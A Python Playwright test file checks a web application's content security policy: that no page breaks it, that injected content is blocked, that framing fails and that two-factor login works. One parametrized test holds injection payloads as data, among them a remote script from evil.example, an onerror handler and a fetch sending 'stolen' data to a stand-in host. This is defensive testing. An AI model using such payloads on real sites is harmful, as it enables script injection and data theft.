"""The content security policy in a real browser: no page breaks it, and it does stop what it is there for."""

from __future__ import annotations

import pytest
import sqlalchemy as sa

from pathways import clock, db
from pathways.models import Role, SecondFactorAct
from tests.browser.test_screens import addresses
from tests.scene import account, second_mandate
from tests.security.conftest import Authenticator

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    # A browser that leaves while a file is sent leaves it open for the collector.
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]

LISTEN = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
"""Run by the browser before anything of the page."""
MORE = (
    "/compte/", "/compte/sessions", "/compte/double-authentification", "/compte/mot-de-passe", "/dispositifs/",
    "/points-de-vigilance",
    "/visibilite", "/equipe", "/membres/", "/membres/inviter", "/seuils", "/doublons", "/groupes", "/alertes", "/territoires",
)  # fmt: skip


def broken(page) -> list[str]:
    page.wait_for_load_state()
    return page.evaluate("window.broken")


@pytest.fixture
def watched(visit):
    """A visitor whose pages tell what breaks the policy."""

    def go(width: int = 1400):
        visitor = visit(width)
        visitor.page.context.add_init_script(LISTEN)
        return visitor

    return go


@pytest.fixture
def head(site):
    """A head of service who also administers: whoever opens the most pages."""
    with db.as_system():
        email = f"helene.{clock.now().timestamp()}@exemple.fr"
        found = account(site.scene.ml, "Hélène Roux", email, Role.RESPONSABLE_STRUCTURE)
        second_mandate(found, site.scene.ml, Role.ADMINISTRATEUR)
        db.remove()
    return found


def test_no_main_page_breaks_the_policy(watched, site, head):
    visitor = watched()
    visitor.go("/connexion")
    found = {"sign-in": broken(visitor.page)}
    visitor.sign_in(head.email)
    for name, address in {**addresses(site), **{each: each for each in MORE}}.items():
        visitor.go(address)
        for summary in visitor.page.locator("main summary:visible").all():
            summary.click()
        found[name] = broken(visitor.page)

    assert {name: told for name, told in found.items() if told} == {}
    assert [fault for fault in visitor.faults if "Content Security Policy" in fault] == []


def script(line: str) -> str:
    return f"const s = document.createElement('script'); {line}; document.head.append(s)"


def html(text: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', `{text}`)"


@pytest.mark.parametrize(
    ("injected", "directives"),
    [
        (script("s.textContent = 'window.taken = true'"), ("script-src",)),
        (script("s.src = 'https://evil.example/x.js'"), ("script-src",)),
        (html('<img src=x onerror="window.taken = true">'), ("script-src",)),
        (html('<p style="color: red">x</p>'), ("style-src",)),
        (html('<iframe src="https://evil.example/"></iframe>'), ("frame-src", "default-src")),
        (html('<form action="https://evil.example/" id="evil"></form>') + "; document.forms.evil.submit()", ("form-action",)),
        ("fetch('https://evil.example/?stolen').catch(() => 0)", ("connect-src",)),
    ],
)
def test_what_somebody_would_inject_is_stopped_and_told(watched, injected, directives):
    page = (visitor := watched()).page
    visitor.go("/connexion")
    assert broken(page) == []

    page.evaluate(injected)

    for _moment in range(50):
        if told := page.evaluate("window.broken"):
            break
        page.wait_for_timeout(100)
    assert any(each.startswith(directives) for each in told), told
    assert page.evaluate("window.taken") is None


def test_another_site_cannot_frame_a_page(browser, site):
    context = browser.new_context()
    page = context.new_page()
    page.goto("about:blank")
    page.set_content(f'<iframe src="{site.address}/connexion"></iframe>')
    page.wait_for_timeout(500)

    frame = page.frames[1]
    assert "Connexion" not in frame.content()
    context.close()


@pytest.mark.parametrize("width", [1400, 390])
def test_a_second_factor_is_set_up_and_asked_for_in_a_browser(watched, site, head, width):
    visitor = watched(width)
    page = visitor.page
    visitor.sign_in(head.email)
    visitor.go("/compte/double-authentification")
    page.get_by_text("L’image ne se laisse pas viser ?").click()
    phone = Authenticator(page.locator(".factor-key").inner_text())
    visitor.picture("double-authentification")
    page.get_by_role("textbox", name="Code").fill(phone.shows())
    visitor.send(page.get_by_role("button", name="Vérifier et mettre en place"))
    codes = page.locator(".factor-codes li").all_inner_texts()
    assert len(codes) == 10
    assert page.get_by_role("button", name="Imprimer").is_visible()
    assert broken(page) == []
    visitor.picture("codes-de-secours")
    page.context.clear_cookies()

    visitor.go("/connexion")
    page.get_by_label("Adresse électronique").fill(head.email)
    page.get_by_label("Mot de passe").fill("correct-horse-battery")
    page.get_by_role("button", name="Se connecter").click()
    page.get_by_role("textbox", name="Code").fill(codes[0])
    visitor.picture("code-de-connexion")
    page.get_by_role("button", name="Se connecter").click()
    page.locator("details.menu").wait_for()

    visitor.go("/compte/sessions")
    assert page.get_by_text("Cette session").count() == 1
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    visitor.picture("mes-sessions")
    with db.as_system():
        count = db.session().scalar(sa.select(sa.func.count()).where(SecondFactorAct.user_id == head.id))
        db.remove()
    assert count == 2
